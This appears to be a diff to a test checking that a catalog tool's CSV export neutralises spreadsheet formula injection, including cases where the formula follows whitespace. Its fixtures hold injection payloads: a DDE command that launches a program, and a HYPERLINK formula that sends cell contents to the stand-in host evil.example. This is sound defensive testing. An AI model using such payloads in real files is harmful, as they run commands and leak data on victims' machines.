@@ -96,7 +96,17 @@ it('CSV: a cell a spreadsheet would run as a formula is escaped with a quote, an
         project_links: [{ title: "=cmd|' /C calc'!A0", url: 'https://example.com/a' }],
         demonstration_cases: ['@caso', 'normal'],
       },
+      // Stored without control characters (decision 058): the tab stays, the problem's carriage return
+      // becomes a line feed; either way a formula follows white space.
       { id: 'formula-2', title: 'Tabulador y retorno', subtitle: '\t=1+1', problem_solved: '\r=1+1' },
+      // Spreadsheets skip spaces and line breaks before a formula (issue 28, item 10).
+      {
+        id: 'formula-4',
+        title: 'Espacios',
+        subtitle: '   =1+1',
+        author: ' @SUM(1,2)',
+        problem_solved: '\n\n-2+3\n',
+      },
       {
         id: 'formula-3',
         title: "'=ya con comilla",
@@ -115,19 +125,21 @@ it('CSV: a cell a spreadsheet would run as a formula is escaped with a quote, an
     return projects.filter((project) => project.id.startsWith('formula-'))
   }
   const before = await formulaProjects()
-  expect(before).toHaveLength(3)
+  expect(before).toHaveLength(4)
 
   const exported = (await cli.run('catalog', 'export', '--format', 'csv')).out
   const dangerous = parseCsv(exported)
     .flat()
-    .filter((cell) => /^[=+\-@\t\r]/.test(cell))
+    .filter((cell) => /^(?:[\t\r\n]|\s*[=+\-@])/.test(cell))
   expect(dangerous).toEqual([])
   expect(exported).toContain(
     `formula-1,"'=HYPERLINK(""http://evil.example/?""&A1,""Ver"")","'+1+2","'@SUM(1,2)"`,
   )
   expect(exported).toContain(`"'-2+3","'=cmd\\|' /C calc'!A0|https://example.com/a","'@caso|normal"`)
   expect(exported).toContain(`formula-2,Tabulador y retorno,"'\t=1+1",`)
-  expect(exported).toContain(`"'\r=1+1"`)
+  expect(exported).toContain(`"'\n=1+1"`)
+  expect(exported).toContain(`formula-4,Espacios,"'   =1+1","' @SUM(1,2)",`)
+  expect(exported).toContain(`"'\n\n-2+3\n"`)
   expect(exported).toContain(`formula-3,"''=ya con comilla","'''@dos comillas",'texto con comilla,`)
 
   cli.files.set('formulas.csv', exported)
